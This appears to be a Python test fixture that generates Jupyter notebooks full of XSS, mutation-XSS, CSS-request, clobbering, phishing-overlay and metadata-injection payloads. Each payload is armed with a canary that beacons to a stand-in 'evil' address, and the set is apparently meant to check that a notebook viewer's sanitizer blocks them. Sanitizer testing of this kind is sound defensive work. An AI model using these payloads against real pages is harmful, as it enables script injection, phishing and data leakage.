"""Notebooks that attack whoever shows them: by script, by request, by navigation, by what they look like.

Each attack that succeeds tells its name: to the console, to `top.ran`, and to the address that it is given.
"""

import base64
from typing import Any
from urllib.parse import quote

Notebook = dict[str, Any]

# `JS` stands for a script, `URL` for an address that must not be asked for. Neither has a double quote.
HTML = {
    "script": "<script>JS</script>",
    "script-src": '<script src="URL"></script>',
    "script-in-odd-case": "<ScRiPt >JS</sCrIpT >",
    "script-unclosed": "<script>JS",
    "script-split": "<scr<script>ipt>JS</scr</script>ipt>",
    "script-module": '<script type="module">JS</script>',
    "onerror": '<img src="x" onerror="JS">',
    "onerror-without-quotes-or-spaces": "<img/src=x/onerror=JS>",
    "onerror-after-newline": '<img src="x"\n\nonerror\n=\n"JS">',
    "onload": '<body onload="JS"><iframe onload="JS"></iframe>',
    "onfocus": '<input autofocus onfocus="JS"><a href="https://a.example" tabindex="1" autofocus onfocus="JS">x</a>',
    "ontoggle": '<details open ontoggle="JS"><summary>x</summary></details>',
    "onmouseover": '<p onmouseover="JS" onclick="JS">click me</p>',
    "onanimation": '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="JS">x</b>',
    "onbegin": '<svg><animate onbegin="JS" attributeName="x" dur="1s"></animate></svg>',
    "media": '<video><source onerror="JS"></video><audio src="x" onerror="JS"></audio>',
    "marquee": '<marquee onstart="JS">x</marquee>',
    "svg-script": "<svg><script>JS</script></svg>",
    "svg-onload": '<svg onload="JS"><circle r="9"/></svg>',
    "svg-foreign-object": '<svg><foreignObject><iframe srcdoc="<script>JS</script>"></iframe></foreignObject></svg>',
    "svg-link": '<svg><a xlink:href="javascript:JS"><text y="20">click</text></a></svg>',
    "svg-use": '<svg><use href="URL#x"/><image href="URL"/></svg>',
    "svg-set": '<svg><a><set attributeName="href" to="javascript:JS"/><text y="20">click</text></a></svg>',
    "iframe": '<iframe src="URL"></iframe>',
    "iframe-javascript": '<iframe src="javascript:JS"></iframe>',
    "srcdoc": '<iframe srcdoc="<script>JS</script>"></iframe>',
    "srcdoc-entities": '<iframe srcdoc="&lt;script&gt;JS&lt;/script&gt;"></iframe>',
    "object": '<object data="URL"></object><object data="javascript:JS"></object>',
    "embed": '<embed src="URL"><embed src="javascript:JS">',
    "meta-refresh": '<meta http-equiv="refresh" content="0; url=URL">',
    "meta-refresh-javascript": '<meta http-equiv="refresh" content="0; url=javascript:JS">',
    "meta-policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "base": '<base href="URL/"><img src="x.png"><a href="x">click</a>',
    "link-stylesheet": '<link rel="stylesheet" href="URL">',
    "link-preload": '<link rel="preload" as="image" href="URL"><link rel="prefetch" href="URL">',
    "link-import": '<link rel="modulepreload" href="URL">',
    "style-import": '<style>@import url("URL");</style>',
    "style-import-in-svg": '<svg><style>@import url("URL");</style></svg>',
    "style-url": '<style>body{background:url(URL)} input[value^="a"]{background:url(URL)}</style>',
    "style-attribute": '<div style="background-image:url(URL);position:fixed;inset:0">x</div>',
    "style-attribute-escaped": '<div style="background:\\75rl(URL)">x</div>',
    "style-list": '<ul style="list-style:url(URL)"><li>x</ul><p style="content:url(URL)">x</p>',
    "style-font": '<style>@font-face{font-family:x;src:url(URL)} *{font-family:x}</style>',
    "background-attribute": '<table background="URL"><tr><td background="URL">x</td></tr></table>',
    "remote-image": '<img src="URL" srcset="URL 2x"><picture><source srcset="URL"><img src="URL"></picture>',
    "remote-image-without-scheme": '<img src="//evil.example/NAME"><img src="\\\\evil.example\\NAME">',
    "remote-media": '<video src="URL" poster="URL" autoplay></video><audio src="URL" autoplay></audio>',
    "image-ping": '<a href="https://a.example/" ping="URL">click</a>',
    "link-javascript": '<a href="javascript:JS">click</a>',
    "link-javascript-case": '<a href="JaVaScRiPt:JS">click</a>',
    "link-javascript-entities": '<a href="&#106;&#x61;vascript&colon;JS">click</a>',
    "link-javascript-whitespace": '<a href=" \t\njava\tscr\nipt:JS">click</a><a href="&#1;javascript:JS">click</a>',
    "link-javascript-entity-whitespace": '<a href="java&Tab;script&NewLine;:JS">click</a>',
    "link-vbscript": '<a href="vbscript:msgbox(1)">click</a>',
    "link-data": '<a href="data:text/html,<script>JS</script>">click</a>',
    "link-data-base64": '<a href="data:text/html;base64,B64">click</a><a href="data:image/svg+xml;base64,B64">click</a>',
    "link-blob-and-file": '<a href="blob:URL">click</a><a href="file:///etc/passwd">click</a>',
    "link-view-source": '<a href="view-source:javascript:JS">click</a><a href="feed:javascript:JS">click</a>',
    "link-target": '<a href="https://a.example/" target="_top" rel="opener">click</a>',
    "area": '<img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name="m">'
    '<area href="javascript:JS" coords="0,0,99,99"></map>',
    "image-data-html": '<img src="data:text/html,<script>JS</script>"><iframe src="data:text/html,<script>JS</script>"></iframe>',
    "image-data-svg-text": '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'JS\'/>">',
    "image-data-breakout": '<img src="data:image/png;base64,AAAA&quot; onerror=&quot;JS">',
    "form": '<form action="URL"><input name="x" value="y"><button autofocus>click</button></form>',
    "formaction": '<form id="f"></form><button form="f" formaction="javascript:JS">click</button>'
    '<input type="image" src="URL" formaction="URL">',
    "isindex": '<isindex action="javascript:JS" type="image">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=JS>"></noscript>',
    "mxss-math-style": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=JS&gt;">',
    "mxss-math-mglyph": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>",
    "mxss-svg-style": "<svg></p><style><a id=\"</style><img src=1 onerror=JS>\">",
    "mxss-svg-title": '<svg><title><a id="</title><img src=1 onerror=JS>"></a></title></svg>',
    "mxss-annotation": '<math><annotation-xml encoding="text/html"><style><img src=x onerror="JS"></style></annotation-xml></math>',
    "mxss-template": "<template><script>JS</script></template><template><style></template><img src=x onerror=JS></style>",
    "mxss-template-shadow": '<div><template shadowrootmode="open"><script>JS</script><img src=x onerror="JS"></template></div>',
    "mxss-select": "<select><iframe></select><img src=x onerror=JS></iframe>",
    "mxss-textarea": "<textarea><img title='</textarea><img src=x onerror=JS>'></textarea>",
    "mxss-comment": "<!--><img src=x onerror=JS>--><!-- --!><img src=x onerror=JS><![CDATA[<img src=x onerror=JS>]]>",
    "mxss-xmp": "<xmp><p title='</xmp><img src=x onerror=JS>'></xmp><noembed><img title='</noembed><img src=x onerror=JS>'>",
    "mxss-nested-tables": "<table><tr><td><table><svg><style><img src=x onerror=JS></style></svg></table></td></tr></table>",
    "mxss-deep": "<div>" * 600 + "<table><math><mtext><style><img src=x onerror=JS></style></mtext></math></table>",
    "plaintext": "<plaintext><img src=x onerror=JS>",
    "frameset": '<frameset onload="JS"><frame src="URL"></frameset>',
    "processing-instruction": '<?xml-stylesheet href="URL"?><!DOCTYPE x [<!ENTITY y SYSTEM "URL">]>',
    "closes-what-is-around": '</div></section></main></body></html><script>JS</script><img src=x onerror="JS">',
    "closes-the-style": '</style><script>JS</script><style>',
    "clobbering": '<form id="document"><input name="cookie"></form><img name="body" id="location"><a id="top" name="ran" href="URL">x</a>',
    "custom-element": '<x-y is="z" onclick="JS"><slot onslotchange="JS"></slot></x-y><p is="x" contenteditable>x</p>',
    "portal-and-fenced": '<portal src="URL"></portal><fencedframe></fencedframe>',
    "popover": '<button popovertarget="p">x</button><div id="p" popover onbeforetoggle="JS">x</div>',
    "our-classes": '<div class="nb-error" style="position:fixed;inset:0">Your session is over: log in</div>',
    "null-bytes": '<scr\0ipt>JS</script><img src="x" on\0error="JS"><a href="java\0script:JS">click</a>',
    "bidi-and-invisible": '<a href="https://a.example/\u202egpj.exe">click \u200b\ufeff</a>',
}  # fmt: skip

MARKDOWN = {
    "markdown-link": "[click](javascript:JS)",
    "markdown-link-case": "[click](JAVASCRIPT:JS) [click](<java\tscript:JS>) [click](&#106;avascript:JS)",
    "markdown-link-data": "[click](data:text/html;base64,B64)",
    "markdown-link-title": '[click](https://a.example "x\\" onmouseover=\\"JS")',
    "markdown-reference": "[click][a] ![x][b]\n\n[a]: javascript:JS\n[b]: URL",
    "markdown-autolink": "<javascript:JS> <vbscript:x> <data:text/html;base64,B64>",
    "markdown-image": "![x](URL) ![x](javascript:JS) ![](data:text/html;base64,B64)",
    "markdown-image-alt": '![" onerror="JS](x) ![`"><img src=x onerror=JS>`](x)',
    "markdown-code": "`<img src=x onerror=JS>`\n\n```html\n</pre><img src=x onerror=JS>\n```",
    "markdown-code-language": '```"><img src=x onerror=JS>\nx\n```\n\n```mermaid\n</pre><img src=x onerror=JS>\n```',
    "markdown-heading": "# <img src=x onerror=JS> {#a onclick=JS}",
    "markdown-table": "| a |\n|:-:|\n| <img src=x onerror=JS> |",
    "markdown-mixed": "<div>\n\n*a* <img src=x onerror=JS>\n\n</div>\n\n<script>\n\nJS\n\n</script>",
    "markdown-math": "$<img src=x onerror=JS>$ $$</p><script>JS</script>$$ \\begin{x}<script>JS</script>\\end{x}",
    "markdown-latex": "$\\href{javascript:JS}{click}$ $\\unicode{<img src=x onerror=JS>}$ $\\require{html}\\style{background:url(URL)}{x}$",
    "markdown-footnote": "[^1]\n\n[^1]: <img src=x onerror=JS>",
}  # fmt: skip


def hostile_notebooks(evil: str) -> dict[str, Notebook]:
    """Give all of them by name. `evil` is an address under which each must not ask for its own name."""

    def armed(name: str, text: str) -> str:
        url = f"{evil}/{name}"
        js = f"console.log('canary {name}');try{{top.ran.push('{name}')}}catch(e){{}};new Image().src='{url}'"
        b64 = base64.b64encode(f"<script>{js}</script>".encode()).decode()
        return text.replace("JS", js).replace("URL", url).replace("B64", b64).replace("NAME", name)

    made = {name: everywhere(armed(name, text)) for name, text in (HTML | MARKDOWN).items()}
    for name, build in _SPECIAL.items():
        made[name] = build(armed(name, '"><img src=x onerror="JS">'), armed(name, "javascript:JS"), f"{evil}/{name}")
    return made


def everywhere(text: str) -> Notebook:
    """Put a text into every place of a notebook that is shown."""
    return notebook(
        cell("markdown", text),
        cell("raw", text),
        cell("code", text, *(shown(mime, text) for mime in _TEXTS)),
        cell("code", "x", stream("stdout", text), stream("stderr", text), error(text)),
        cell("heading", text),
    )


_TEXTS = ("text/html", "text/markdown", "text/plain", "text/latex", "image/svg+xml", "application/javascript")


def notebook(*cells: dict[str, Any], **metadata: Any) -> Notebook:
    """Make a notebook."""
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": list(cells)}


def cell(kind: str, source: Any, *outputs: Any, **more: Any) -> dict[str, Any]:
    """Make a cell."""
    only_code = {"execution_count": 1, "outputs": list(outputs)} if kind == "code" else {}
    return {"cell_type": kind, "id": "c", "metadata": {}, "source": source, **only_code, **more}


def shown(mime: str, data: Any, **metadata: Any) -> dict[str, Any]:
    """Make an output of one MIME type."""
    return {"output_type": "display_data", "metadata": {mime: metadata}, "data": {mime: data}}


def stream(name: str, text: str) -> dict[str, Any]:
    """Make a stream's output."""
    return {"output_type": "stream", "name": name, "text": text}


def error(text: str) -> dict[str, Any]:
    """Make an error whose every part is the same text."""
    return {"output_type": "error", "ename": text, "evalue": text, "traceback": [text, f"\x1b[31m{text}\x1b[0m"]}


def _svg(html: str, script: str, url: str) -> str:
    js = script.removeprefix("javascript:")
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{js}">'
        f'<script>{js}</script><image xlink:href="{url}"/><style>@import url("{url}");</style>'
        f'<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="{url}" onerror="{js}"/></foreignObject></svg>'
    )


_SPECIAL = {
    "language": lambda html, script, url: notebook(
        cell("code", "1"), language_info={"name": html, "pygments_lexer": html}, kernelspec={"language": html}
    ),
    "language-of-a-path": lambda html, script, url: notebook(
        cell("code", html), language_info={"name": "../../x", "pygments_lexer": "../x"}
    ),
    "names": lambda html, script, url: notebook(
        cell("code", "1"), kernelspec={"name": html, "display_name": html}, title=html, authors=[{"name": html}]
    ),
    "cell-metadata": lambda html, script, url: notebook(
        cell("markdown", "x", metadata={"tags": [html], "name": html, "id": html, "class": html, "scrolled": html}),
        cell("raw", html, metadata={"format": "text/html", "raw_mimetype": "text/html"}),
        cell("code", "x", metadata={"filename": html, "magics_language": html}),
    ),
    "cell-id-and-type": lambda html, script, url: notebook(cell("markdown", "x", id=html), cell(html, html)),
    "execution-count": lambda html, script, url: notebook(
        cell("code", "x", {"output_type": "execute_result", "execution_count": html, "metadata": {}, "data": {"text/plain": "x"}},
             execution_count=html)
    ),
    "stream-name": lambda html, script, url: notebook(cell("code", "x", stream(html, html))),
    "mime-type": lambda html, script, url: notebook(
        cell("code", "x", shown(html, html), shown(f'image/png" {html}', "AAAA"), shown("image/png;charset=x", html))
    ),
    "image-data": lambda html, script, url: notebook(
        cell("code", "x", shown("image/png", html), shown("image/jpeg", f"AAAA{html}"), shown("image/gif", [html, html]))
    ),
    "image-size": lambda html, script, url: notebook(
        cell("code", "x", shown("image/png", "AAAA", width=html, height=html, alt=html, unconfined=html))
    ),
    "attachment-name": lambda html, script, url: notebook(
        cell("markdown", f"![x](attachment:{quote(html)}) ![x](<attachment:{html}>)",
             attachments={html: {"image/png": "AAAA", "text/html": html}})
    ),
    "attachment-data": lambda html, script, url: notebook(
        cell("markdown", "![x](attachment:a) ![x](attachment:b) ![x](attachment:c)",
             attachments={"a": {"image/png": f"AAAA{html}"}, "b": {"text/html": html}, "c": {"image/svg+xml": html}})
    ),
    "svg-output": lambda html, script, url: notebook(
        cell("code", "x", shown("image/svg+xml", _svg(html, script, url))),
        cell("markdown", "![x](attachment:a.svg)",
             attachments={"a.svg": {"image/svg+xml": base64.b64encode(_svg(html, script, url).encode()).decode()}}),
    ),
    "json-output": lambda html, script, url: notebook(
        cell("code", "x", shown("application/json", {html: [html]}), shown("application/geo+json", {"x": html}))
    ),
    "widget-state": lambda html, script, url: notebook(
        cell("code", "x", shown("application/vnd.jupyter.widget-view+json", {"model_id": html})),
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {html: {"model_name": "HTMLModel", "state": {"value": html}}}}},
    ),
    "ansi": lambda html, script, url: notebook(
        cell("code", "x", stream("stdout", f"\x1b[31{html}m \x1b[38;5;{html}m \x1b]8;;{script}\x1b\\click\x1b]8;;\x1b\\ \x1b]0;{html}\x07"),
             error(f"\x1b[{html}m\x1b[1;7;4m{html}"))
    ),
    "latex-output": lambda html, script, url: notebook(
        cell("code", "x", shown("text/latex", f"$\\href{{{script}}}{{click}}$ {html}"))
    ),
}  # fmt: skip
